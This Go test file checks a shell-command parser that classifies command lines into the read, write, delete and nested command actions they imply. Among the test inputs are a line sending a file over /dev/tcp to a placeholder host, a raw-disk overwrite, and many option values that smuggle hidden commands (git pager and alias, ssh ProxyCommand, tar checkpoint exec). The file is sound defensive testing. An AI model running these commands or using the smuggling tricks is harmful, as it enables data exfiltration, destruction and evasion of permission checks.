package shell

import (
	"strings"
	"testing"
)

// examples are lines for rows of the table, and the calls that each must yield as
// corpus.txt writes them, two blanks apart; <a,b behind a call: its Via.
var examples = [...]struct{ line, want string }{
	{"jobs -l", "Bash(jobs -l)"},
	{"gio trash a b", "Bash(gio trash a b)?"},
	{"fallocate -l 1G disk.img", "Bash(fallocate -l 1G disk.img)?  Read(disk.img)"},
	{"setfacl -m u:me:r f", "Bash(setfacl -m u:me:r f)?"},
	{"code -p x main.go", "Bash(code -p x main.go)  Write(main.go)"},
	{"code main.go +12", "Bash(code main.go +12)  Write(main.go)  Write(+12)"},
	{"emacs --version", "Bash(emacs --version)"},
	{"od -A x f", "Bash(od -A x f)  Read(x)  Read(f)"},
	{"hexdump -C f", "Bash(hexdump -C f)  Read(f)"},
	{"hd -n 16 f", "Bash(hd -n 16 f)  Read(16)  Read(f)"},
	{"join -t , a b", "Bash(join -t , a b)  Read(,)  Read(a)  Read(b)"},
	{"cmp -n 10 a b", "Bash(cmp -n 10 a b)  Read(10)  Read(a)  Read(b)"},
	{"iconv -f latin1 -t utf-8 a.txt", "Bash(iconv -f latin1 -t utf-8 a.txt)?  Read(a.txt)"},
	{"base32 -w 0 f", "Bash(base32 -w 0 f)  Read(f)"},
	{"base64 -d f", "Bash(base64 -d f)  Read(f)"},
	{"base64 -i f -o g", "Bash(base64 -i f -o g)  Read(f)  Write(g)"},
	{"column -s , -t f", "Bash(column -s , -t f)  Read(f)"},
	{"fold -w 80 f", "Bash(fold -w 80 f)  Read(80)  Read(f)"},
	{"fmt < notes.txt", "Bash(fmt)  Read(notes.txt)"},
	{"exa -T src", "Bash(exa -T src)?"},
	{"exa src", "Bash(exa src)?"},
	{"lsd --tree", "Bash(lsd --tree)?"},
	{"mix format", "Bash(mix format)"},
	{"mix format --check-formatted", "Bash(mix format --check-formatted)"},
	{"pg_dump -f dump.sql db", "Bash(pg_dump -f dump.sql db)  Write(dump.sql)"},
	{"mysqldump -r dump.sql db", "Bash(mysqldump -r dump.sql db)  Write(dump.sql)"},
	{"npm pkg set version=1", "Bash(npm pkg set version=1)"},
	{"npm pkg get version", "Bash(npm pkg get version)"},
	{"npm version patch", "Bash(npm version patch)"},
	{"pnpm dlx prettier --write a.js",
		"Bash(pnpm dlx prettier --write a.js)  Bash(prettier --write a.js)<pnpm dlx  Write(a.js)<pnpm dlx"},
	{"yarn dlx prettier --check a.js",
		"Bash(yarn dlx prettier --check a.js)  Bash(prettier --check a.js)<yarn dlx"},
	{"yarn exec -- touch a", "Bash(yarn exec -- touch a)  Bash(touch a)<yarn exec  Write(a)<yarn exec"},
	{"bun x prettier -w a.js", "Bash(bun x prettier -w a.js)  Bash(prettier -w a.js)<bun x  Write(a.js)<bun x"},
	{"bun run build", "Bash(bun run build)"},
	{"bun x.ts", "Bash(bun x.ts)?"},
	{"bun run x.ts", "Bash(bun run x.ts)?"},
	{"pnpx eslint --fix a.js", "Bash(pnpx eslint --fix a.js)?  Bash(eslint --fix a.js)?<pnpx  Read(a.js)<pnpx"},
	{"deno fmt", "Bash(deno fmt)"},
	{"deno fmt --check", "Bash(deno fmt --check)"},
	{"deno run x.ts", "Bash(deno run x.ts)?"},
	{"deno test", "Bash(deno test)"},
	{"uv tool run --from ruff ruff format",
		"Bash(uv tool run --from ruff ruff format)  Bash(ruff format)<uv tool run  Write(?)<uv tool run"},
	{"pdm run -p proj pytest", "Bash(pdm run -p proj pytest)  Bash(pytest)<pdm run"},
	{"pipx run --spec black black f",
		"Bash(pipx run --spec black black f)  Bash(black f)<pipx run  Write(f)<pipx run"},
	{"bundle exec rubocop -a", "Bash(bundle exec rubocop -a)  Bash(rubocop -a)?<bundle exec"},
	{"conda run -n env rm x", "Bash(conda run -n env rm x)?"},
	{"dotnet format", "Bash(dotnet format)"},
	{"dotnet build", "Bash(dotnet build)"},
	{"reuse lint", "Bash(reuse lint)?"},
	{"tar -tf a.tar --index-fil i", "Bash(tar -tf a.tar --index-fil i)  Write(i)"},
	{"mvn -l log.txt package", "Bash(mvn -l log.txt package)  Write(log.txt)"},
	{"mvn dependency:tree -DoutputFile=t", "Bash(mvn dependency:tree -DoutputFile=t)  Write(t)"},
	{"ninja -t clean", "Bash(ninja -t clean)"},
	{"bear -o c.json -- make", "Write(c.json)  Bash(make)<bear"},
	{"./gradlew --version", "Bash(./gradlew --version)"},
	{"./gradlew tasks", "Bash(./gradlew tasks)"},
	{"ctest -N -S x.cmake", "Bash(ctest -N -S x.cmake)?"},
	{"rake -T -e 'x'", "Bash(rake -T -e x)?"},
	{`sqlite3 x.db '.impo "|touch a" t'`, `Bash(sqlite3 x.db '.impo "|touch a" t')?  Read(x.db)`},
	{"sqlite3 x.db '.outp f'", "Bash(sqlite3 x.db '.outp f')?  Read(x.db)"},
	{"/tmp/gradlew tasks", "Bash(/tmp/gradlew tasks)?"},
	{`journalctl -u "$UNIT" -f`, "Bash(journalctl -u ? -f)"},
	{"helm -n ns list", "Bash(helm -n ns list)"},
	{"hg log", "Bash(hg log)?"},
	{"svn log", "Bash(svn log)"},
	{"docker compose -f c.yml run -e A=b app rm x",
		"Bash(docker compose -f c.yml run -e A=b app rm x)  Bash(rm x)<docker compose run" +
			"  Delete(?)<docker compose run"},
	{"docker-compose exec app ls -R src", "Bash(docker-compose exec app ls -R src)  Bash(ls -R src)<docker compose exec"},
	{"docker-compose run --name x app touch a",
		"Bash(docker-compose run --name x app touch a)  Bash(touch a)<docker compose run" +
			"  Write(?)<docker compose run"},
	{"docker cp c:/x out", "Bash(docker cp c:/x out)  Write(out)"},
	{"podman run --rm -v .:/w img rm x",
		"Bash(podman run --rm -v .:/w img rm x)  Bash(rm x)<podman run  Delete(?)<podman run"},
	{"nerdctl exec c rm x", "Bash(nerdctl exec c rm x)  Bash(rm x)<nerdctl exec  Delete(?)<nerdctl exec"},
	{"kubectl run tmp --image x -- rm x", "Bash(kubectl run tmp --image x -- rm x)  Bash(rm x)<kubectl run"},
	{"kubectl cp pod:/x out/", "Bash(kubectl cp pod:/x out/)  Write(out/x)"},
	{"kubectl cp a pod:/x", "Bash(kubectl cp a pod:/x)  Read(a)"},
	{"heroku run -a app 'rm x'", "Bash(heroku run -a app 'rm x')  Bash(rm x)<heroku run"},
	{"lima rm x", "Bash(lima rm x)?"},
	{"limactl shell vm rm x", "Bash(limactl shell vm rm x)  Bash(rm x)<limactl shell  Delete(?)<limactl shell"},
	{"vagrant ssh -c 'rm x'", "Bash(vagrant ssh -c 'rm x')  Bash(rm x)<vagrant ssh  Delete(?)<vagrant ssh"},
	{"nsenter -t 1 rm x", "Bash(nsenter -t 1 rm x)?"},
	{"echo 'rm x' | nsenter -t 1", "Bash(echo 'rm x')  Bash(nsenter -t 1)?"},
	{"proot -r root rm x", "Bash(proot -r root rm x)?"},
	{"runuser -u me -- rm x", "Bash(runuser -u me -- rm x)?"},
	{"runuser -c 'rm x' me", "Bash(runuser -c 'rm x' me)?"},
	{"su -c 'rm x' me", "Bash(rm x)<su  Delete(x)<su"},
	{"su me", "Bash(su me)"},
	{"pkexec --user me rm x", "Bash(pkexec --user me rm x)?"},
	{"newgrp docker", "Bash(newgrp docker)?"},
	{"sg docker -c 'rm x'", "Bash(sg docker -c 'rm x')?"},
	{"envdir env.d rm x", "Bash(envdir env.d rm x)?  Read(env.d)"},
	{"arch -arch arm64 rm x", "Bash(rm x)<arch  Delete(x)<arch"},
	{"chrt -T 1 5 rm x", "Bash(chrt -T 1 5 rm x)?"},
	{"cpulimit -l 50 rm x", "Bash(cpulimit -l 50 rm x)?"},
	{"dbus-run-session -- rm x", "Bash(dbus-run-session -- rm x)?"},
	{"faketime -f '2020-01-01' x rm y", "Bash(faketime -f 2020-01-01 x rm y)?"},
	{"fakeroot -l lib rm x", "Bash(fakeroot -l lib rm x)?"},
	{"ionice -c 3 rm x", "Bash(rm x)<ionice  Delete(x)<ionice"},
	{"numactl -N 0 rm x", "Bash(numactl -N 0 rm x)?"},
	{"prlimit --pid 1 rm x", "Bash(prlimit --pid 1 rm x)?"},
	{"proxychains -f conf rm x", "Bash(proxychains -f conf rm x)?"},
	{"rlwrap -f words rm x", "Bash(rlwrap -f words rm x)?"},
	{"screen -S name rm x", "Bash(screen -S name rm x)  Bash(rm x)<screen  Delete(x)<screen"},
	{"setpriv --reuid 1 rm x", "Bash(setpriv --reuid 1 rm x)?"},
	{"sshpass -p pw rm x", "Bash(sshpass -p pw rm x)?"},
	{"systemd-inhibit --what sleep rm x", "Bash(systemd-inhibit --what sleep rm x)?"},
	{"systemd-run -p A=b --unit x rm y", "Bash(systemd-run -p A=b --unit x rm y)  Bash(rm y)<systemd-run  Delete(y)<systemd-run"},
	{"taskset 1 rm x", "Bash(taskset 1 rm x)?"},
	{"wsl -d Ubuntu rm x", "Bash(wsl -d Ubuntu rm x)?"},
	{"xvfb-run -s '-screen 0' rm x", "Bash(xvfb-run -s '-screen 0' rm x)?"},
	{"multitime -n 5 rm x", "Bash(multitime -n 5 rm x)?"},
	{"strace -o trace.txt rm x", "Write(trace.txt)  Bash(rm x)<strace  Delete(x)<strace"},
	{"ltrace -o trace.txt rm x", "Write(trace.txt)  Bash(rm x)<ltrace  Delete(x)<ltrace"},
	{"/usr/bin/time -o time.txt rm x", "Write(time.txt)  Bash(rm x)<time  Delete(x)<time"},
	{"perf record -o perf.data rm x",
		"Bash(perf record -o perf.data rm x)?  Read(perf.data)  Write(perf.data)"},
	{"perf stat -r 5 rm x", "Bash(perf stat -r 5 rm x)?"},
	{"script -c 'rm x' log.txt", "Write(log.txt)  Bash(rm x)<script  Delete(x)<script"},
	{"script", "Bash(script)  Write(typescript)"},
	{"script -q /dev/null rm x", "Bash(rm x)<script  Delete(x)<script"}, // on macOS
	{"watch -xn1 sh -c 'rm x'", "Bash(rm x)<watch,sh -c  Delete(x)<watch,sh -c"},
	{"watch sh -c 'rm x'", "Bash(rm)<watch,sh -c"},
	{"su root -c 'rm x'", "Bash(rm x)<su  Delete(x)<su"},
	{"su root -- -c 'rm x'", "Bash(su root -- -c 'rm x')?"},
	{"cat a > /dev/tcp/h.example/80", "Bash(cat a)  Read(a)  Bash('>' /dev/tcp/h.example/80)"},
	{"cat a > /dev/sda", "Bash(cat a)  Read(a)  Bash('>' /dev/sda)  Write(/dev/sda)"},
	{"script log.txt -c 'rm x'", "Write(log.txt)  Bash(rm x)<script  Delete(x)<script"},
	{"watchexec -e go rm x", "Bash(watchexec -e go rm x)?"},
	{"asdf exec rm x", "Bash(asdf exec rm x)?"},
	{"mise exec node -- rm x", "Bash(mise exec node -- rm x)  Bash(rm x)<mise exec  Delete(x)<mise exec"},
	{"mise x -- rm x", "Bash(mise x -- rm x)  Bash(rm x)<mise x  Delete(x)<mise x"},
	{"volta run --node 18 rm x", "Bash(volta run --node 18 rm x)?"},
	{"direnv exec . rm x", "Bash(direnv exec . rm x)?  Read(.)"},
	{"aws-vault exec prod -- rm x",
		"Bash(aws-vault exec prod -- rm x)?"},
	{"doppler run -p app -- rm x",
		"Bash(doppler run -p app -- rm x)?"},
	{"dotenv -e .env -- rm x", "Bash(dotenv -e .env -- rm x)?  Read(.env)"},
	{"dotenv run -f .env -- rm x",
		"Bash(dotenv run -f .env -- rm x)?  Read(.env)"},
	{"infisical run --env dev -- rm x",
		"Bash(infisical run --env dev -- rm x)?"},
	{"op run --env-file .env -- rm x", "Bash(op run --env-file .env -- rm x)?  Read(.env)"},
	{"nix develop -c rm x", "Bash(nix develop -c rm x)  Bash(rm x)<nix develop  Delete(x)<nix develop"},
	{"nix build .", "Bash(nix build .)"},
	{"nix-shell -p jq --run 'rm x'",
		"Bash(nix-shell -p jq --run 'rm x')  Bash(rm x)<nix-shell  Delete(x)<nix-shell"},
	{"nx exec -- rm x", "Bash(nx exec -- rm x)  Bash(rm x)<nx exec  Delete(x)<nx exec"},
	{"dart analyze", "Bash(dart analyze)"},
	{"dart x.dart", "Bash(dart x.dart)?"},
	{"gdb -ex run prog", "Bash(gdb -ex run prog)?"},
	{"sqlite3 db '.shell rm x'", "Bash(sqlite3 db '.shell rm x')?  Read(db)"},
	{"sqlite3 db 'select 1'", "Bash(sqlite3 db 'select 1')?  Read(db)"},
	{`psql -c '\! rm x'`, `Bash(psql -c '\! rm x')?`},
	{"tmux ls", "Bash(tmux ls)"},
	{"tmux new -d 'rm x'", "Bash(tmux new -d 'rm x')?"},
	{"osascript -e 'x'", "Bash(osascript -e x)?"},
	{"julia --version", "Bash(julia --version)"},
	{"git ls-tree -r HEAD src", "Bash(git ls-tree -r HEAD src)"},
	{"git ls-tree HEAD src", "Bash(git ls-tree HEAD src)"},
	{"git cat-file -p HEAD:main.go", "Bash(git cat-file -p HEAD:main.go)  Read(main.go)"},
	{"git annotate main.go", "Bash(git annotate main.go)  Read(main.go)"},
	{"git blame -L 1,5 main.go", "Bash(git blame -L 1,5 main.go)  Read(main.go)"},
	{"git worktree add ../w main", "Bash(git worktree add ../w main)  Write(../w)"},
	{"git worktree move a b", "Bash(git worktree move a b)  Delete(a)  Write(b)"},
	{"git worktree remove a", "Bash(git worktree remove a)  Delete(a)"},
	{"git worktree list", "Bash(git worktree list)"},
	{"git bundle create out.bundle HEAD", "Bash(git bundle create out.bundle HEAD)  Write(out.bundle)"},
	{"git bisect log", "Bash(git bisect log)"},
	{"git bisect start", "Bash(git bisect start)  Write(?)"},
	{"git bisect run make test", "Bash(git bisect run make test)  Bash(make test)<git bisect run  Write(?)"},
	{"git submodule", "Bash(git submodule)"},
	{"git submodule status", "Bash(git submodule status)"},
	{"git submodule update --init", "Bash(git submodule update --init)  Write(?)"},
	{"git submodule foreach 'rm x'",
		"Bash(git submodule foreach 'rm x')  Bash(rm x)<git submodule foreach  Delete(x)<git submodule foreach"},
	{"git sparse-checkout list", "Bash(git sparse-checkout list)"},
	{"git sparse-checkout set src", "Bash(git sparse-checkout set src)  Write(?)"},
	{"git lfs ls-files", "Bash(git lfs ls-files)"},
	{"git lfs pull", "Bash(git lfs pull)  Write(?)"},
	{"git difftool -x 'rm y'", "Bash(git difftool -x 'rm y')?  Write(?)"},
	{"git mergetool", "Bash(git mergetool)?  Write(?)"},
	{"git filter-branch --tree-filter 'rm x' HEAD",
		"Bash(git filter-branch --tree-filter 'rm x' HEAD)?  Write(?)"},
	{"git read-tree HEAD", "Bash(git read-tree HEAD)  Write(?)"},
	{"git subtree push -P x origin main", "Bash(git subtree push -P x origin main)"},
	{"git config alias.x '!rm y'",
		"Bash(git config alias.x '!rm y')  Bash(rm y)<git config  Delete(y)<git config"},
	{"git config user.name me", "Bash(git config user.name me)"},
	{"git config core.pager 'rm y'",
		"Bash(git config core.pager 'rm y')  Bash(?)"},
	{"git fetch --upload-pack='rm y'",
		"Bash(git fetch '--upload-pack=rm y')?"},
	{"git restore --staged f", "Bash(git restore --staged f)"},
	{"git restore -SW f", "Bash(git restore -SW f)  Write(f)"},
	{"git switch -c new", "Bash(git switch -c new)"},
	{"git switch main", "Bash(git switch main)  Write(?)"},
	{"git init", "Bash(git init)  Write(.)"},
	{"git init sub", "Bash(git init sub)  Write(sub)"},
	{"git diff --output=x.patch", "Bash(git diff --output=x.patch)  Write(x.patch)"},
	{"git -C sub rm f", "Bash(git -C sub rm f)  Delete(f)@sub"},
	{"git -c alias.st='!rm y' st",
		"Bash(git -c 'alias.st=!rm y' st)?  Bash(rm y)<git  Delete(y)<git"},
	{"git --work-tree=other checkout -- f", "Bash(git --work-tree=other checkout -- f)  Write(f)@other"},
	{"git frobnicate", "Bash(git frobnicate)?"},
	{"npm x prettier", "Bash(npm x prettier)  Bash(prettier)<npm exec"},
	{"cargo c", "Bash(cargo c)"},
	{"cargo fmt --check", "Bash(cargo fmt --check)"},
	{"go run main.go", "Bash(go run main.go)?"},
	{"go run ./cmd/app", "Bash(go run ./cmd/app)"},
	{"go mod tidy", "Bash(go mod tidy)"},
	{"go build -o bin/app .", "Bash(go build -o bin/app .)  Write(bin/app)"},
	{"gcc -o app main.c", "Bash(gcc -o app main.c)?  Read(main.c)  Write(app)"},
	{"openssl genrsa -out key.pem", "Bash(openssl genrsa -out key.pem)?  Read(key.pem)  Write(key.pem)"},
	{"protoc --out=gen x.proto", "Bash(protoc --out=gen x.proto)?  Read(x.proto)  Write(gen)"},
	{"tar cJf a.tar.xz src", "Bash(tar cJf a.tar.xz src)  Read(src)  Write(a.tar.xz)"},
	{"f() { rm $9; }; f a b c d e f g h i", "Bash(rm i)<f  Delete(i)<f"},
	{"echo -n 'rm x' | sh", "Bash(echo -n 'rm x')  Bash(sh)?  Bash(rm x)<sh  Delete(x)<sh"},
	{"set -e; D=src; rm $D/x", "Bash(set -e)  Bash(rm src/x)  Delete(src/x)"},
	{"set -k; D=src; rm $D/x", "Bash(?)  Bash(set -k)  Bash(rm ?)  Delete(?)"},
	{"tar --list -f a.tar", "Bash(tar --list -f a.tar)"},
	{"tar --list -f a.tar --index-file i", "Bash(tar --list -f a.tar --index-file i)  Write(i)"},
	{"tar --listed i -cf a.tar x", "Bash(tar --listed i -cf a.tar x)  Write(i)  Read(x)  Write(a.tar)"},
	{"tar xzf a.tgz -C out", "Bash(tar xzf a.tgz -C out)  Write(out)"},
	{"tar -xf a.tar --to-command='rm y'",
		"Bash(tar -xf a.tar '--to-command=rm y')?"},
	{"tar --checkpoint-action=exec='rm y' -cf a.tar x", "Bash(tar '--checkpoint-action=exec=rm y' -cf a.tar x)?  Read(x)  Write(a.tar)"},
	{"zip -m a.zip x y", "Bash(zip -m a.zip x y)  Write(a.zip)  Delete(x)  Delete(y)"},
	{"unzip -l a.zip", "Bash(unzip -l a.zip)  Read(a.zip)"},
	{"unzip a.zip -d out", "Bash(unzip a.zip -d out)  Read(a.zip)  Write(out)"},
	{"gzip -k f", "Bash(gzip -k f)  Read(f)  Delete(f)  Write(?)"},
	{"gunzip f.gz", "Bash(gunzip f.gz)  Read(f.gz)  Delete(f.gz)  Write(?)"},
	{"zstd f", "Bash(zstd f)  Read(f)  Delete(f)  Write(?)"},
	{"xz -dc f.xz", "Bash(xz -dc f.xz)  Read(f.xz)"},
	{"curl -o f URL", "Bash(curl -o f URL)  Write(f)"},
	{"curl -O https://x.org/a.tgz?x=1", "Bash(curl -O https://x.org/a.tgz?x=1)  Write(a.tgz)"},
	{"curl -K conf", "Bash(curl -K conf)?"},
	{"wget https://x.org/", "Bash(wget https://x.org/)  Write(index.html)"},
	{"wget -P in https://x.org/a.zip", "Bash(wget -P in https://x.org/a.zip)  Write(in/a.zip)"},
	{"wget -r https://x.org", "Bash(wget -r https://x.org)  Write(.)"},
	{"wget -O - URL", "Bash(wget -O - URL)"},
	{"mktemp", "Bash(mktemp)  Write(/tmp/tmp.XXXXXXXXXX)"},
	{"mktemp -d -p sub", "Bash(mktemp -d -p sub)  Write(sub)  Write(/tmp/tmp.XXXXXXXXXX)"},
	{"patch -o out f", "Bash(patch -o out f)  Write(out)  Write(f)"},
	{"split -b 1k --filter 'rm y' f",
		"Bash(split -b 1k --filter 'rm y' f)?"},
	{"shred -u f", "Bash(shred -u f)  Delete(f)"},
	{"shred f", "Bash(shred f)  Write(f)"},
	{"chmod -x f", "Bash(chmod -x f)  Write(f)"},
	{"chmod --reference a f", "Bash(chmod --reference a f)  Write(f)"},
	{"chown -R me f", "Bash(chown -R me f)  Write(f)"},
	{"install -d a b", "Bash(install -d a b)  Write(a)  Write(b)"},
	{"x=ab; rm $x", "Bash(rm ab)  Delete(ab)"},
	{"x=ab; rm ${x}", "Bash(rm ab)  Delete(ab)"},
	{"x=ab; rm ${#x}", "Bash(rm ?)  Delete(?)"},
	{"x=ab; rm ${!x}", "Bash(rm ?)  Delete(?)"},
	{"x=ab; rm ${x:1}", "Bash(rm ?)  Delete(?)"},
	{"x=ab; rm ${x/a/c}", "Bash(rm ?)  Delete(?)"},
	{"x=ab; rm ${x:-c}", "Bash(rm ?)  Delete(?)"},
	{"x=ab; rm ${!x*}", "Bash(rm ?)  Delete(?)"},
	{"x=ab; rm ${x[0]}", "Bash(rm ?)  Delete(?)"},
	{"ln a b && touch b", "Bash(ln a b)  Read(a)  Write(a)  Write(b)  Bash(touch b)  Write(b)"},
	{"cp -l a b && touch b", "Bash(cp -l a b)  Read(a)  Write(a)  Write(b)  Bash(touch b)  Write(?)"},
	{"ln -s ../target link && touch link/x", "Bash(ln -s ../target link)  Read(../target)  Write(link)  Bash(touch link/x)  Write(?)"},
	{"dd if=a of=b", "Bash(dd if=a of=b)  Read(a)  Write(b)"},
	{"rsync -a --remove-source-files a b/", "Bash(rsync -a --remove-source-files a b/)  Delete(a)  Read(a)  Write(b/a)"},
	{"rsync -n a b", "Bash(rsync -n a b)"},
	{"scp a host:b", "Bash(scp a host:b)  Read(a)"},
	{"scp host:a .", "Bash(scp host:a .)  Write(./host:a)"},
	{"fd -e go -x rm {}", "Bash(fd -e go -x rm {})?  Glob({})"},
	{"fd --search-path src x -X touch",
		"Bash(fd --search-path src x -X touch)?  Glob(src)  Glob(touch)"},
	{"find . -name x -delete", "Bash(find . -name x -delete)  Glob(.)  Delete(.)"},
	{"find src -fprint out -execdir rm {} ';'", "Bash(find src -fprint out -execdir rm {} ';')?  Bash(rm ?)<find -execdir  Delete(?)@?<find -execdir"},
	{"xargs -I % rm %/x", "Bash(rm ?)<xargs  Delete(?)<xargs"},
	{"parallel rm {} ::: a b", "Bash(parallel rm {} ::: a b)?"},
	{"entr -r rm x", "Bash(rm x)<entr  Delete(x)<entr"},
	{"ssh -o ProxyCommand='rm y' host ls",
		"Bash(ssh -o 'ProxyCommand=rm y' host ls)  Bash(?)  Bash(ls)<ssh"},
	{"ssh localhost rm x", "Bash(ssh localhost rm x)  Bash(rm x)<ssh  Delete(?)<ssh"},
	{"env -C sub A=b rm x", "Bash(rm x)<env  Delete(x)@sub<env"},
	{"env -S 'rm x'", "Bash(env -S 'rm x')?"},
	{"sudo -e f", "Bash(f)?<sudo"},
	{"sudo -D sub rm x", "Bash(rm x)<sudo  Delete(x)@sub<sudo"},
	{"watch -n 1 'rm x'", "Bash(rm x)<watch  Delete(x)<watch"},
	{"flock -w 5 lock rm x", "Write(lock)  Bash(rm x)<flock  Delete(x)<flock"},
	{"flock lock -c 'rm x'", "Write(lock)  Bash(rm x)<flock  Delete(x)<flock"},
	{"timeout -k 1 5 rm x", "Bash(rm x)<timeout  Delete(x)<timeout"},
	{"nice -n 5 rm x", "Bash(rm x)<nice  Delete(x)<nice"},
	{"chroot / rm x", "Bash(rm x)<chroot  Delete(?)<chroot"},
	{"jq -n 1", "Bash(jq -n 1)"},
	{"jq --slurpfile a a.json . b.json", "Bash(jq --slurpfile a a.json . b.json)  Read(a.json)  Read(b.json)"},
	{"yq -i .a=1 f.yml", "Bash(yq -i .a=1 f.yml)  Write(f.yml)"},
	{"yq e .a f.yml", "Bash(yq e .a f.yml)  Read(f.yml)"},
	{"perl -pi -e s/a/b/ f", "Bash(perl -pi -e s/a/b/ f)?  Write(f)"},
	{"perl -i.bak -ne print f", "Bash(perl -i.bak -ne print f)?  Write(f)"},
	{"ruby -c f", "Bash(ruby -c f)?"},
	{"python3 -m json.tool f.json", "Bash(python3 -m json.tool f.json)  Bash(json.tool f.json)<python -m  Read(f.json)<python -m"},
	{"python3.11 -m pip install x", "Bash(python3.11 -m pip install x)  Bash(pip install x)<python -m"},
	{"node --check f.js", "Bash(node --check f.js)"},
	{"php -l f.php", "Bash(php -l f.php)"},
	{"crontab -l", "Bash(crontab -l)"},
	{"crontab f", "Bash(crontab f)?"},
	{"at -l", "Bash(at -l)"},
}

func TestTableExamples(t *testing.T) {
	for _, tt := range examples {
		if calls := shownVia(Parse(tt.line, Options{})); calls != tt.want {
			t.Errorf("%s\n got %s\nwant %s", tt.line, calls, tt.want)
		}
	}
}

// shownVia is shown with the wrappers of each call.
func shownVia(calls []Call) string {
	var out []string
	for _, c := range calls {
		s := c.String()
		if c.Kind != Command && c.Dir != "" {
			s += "@" + strings.Replace(c.Dir, Unknown, "?", 1)
		}
		if len(c.Via) > 0 {
			s += "<" + strings.Join(c.Via, ",")
		}
		out = append(out, s)
	}
	return strings.Join(out, "  ")
}

// Every row and every subcommand is used by a line of the corpus or an example.
func TestTableIsExercised(t *testing.T) {
	used := map[*form]bool{}
	use := func(words []string) {
		c := command{name: CommandName(words[0])}
		for _, w := range words {
			c.words = append(c.words, field{text: w, known: w != Unknown})
		}
		m := findForm(c, findRow)
		used[m.form], used[m.top] = true, true
	}
	lines := []string{}
	for _, e := range append(corpus(t), readExamples(t, "groups.txt")...) {
		lines = append(lines, e.line)
	}
	for _, e := range examples {
		lines = append(lines, e.line)
	}
	lines = append(append(lines, readLines(t, "builds.txt")...), readLines(t, "looks.txt")...)
	lines = append(lines, strings.Split(showingLines+changingLines, "\n")...)
	for _, line := range lines {
		for _, c := range Parse(line, Options{}) {
			if c.Kind == Command && len(c.Words) > 0 {
				use(c.Words)
			}
			for _, via := range c.Via {
				use(strings.Fields(via))
			}
		}
	}
	walkTable(func(row *form, words string) {
		if !used[row] {
			t.Errorf("no line of corpus.txt or examples uses %s", words)
			used[row] = true
		}
	})
}
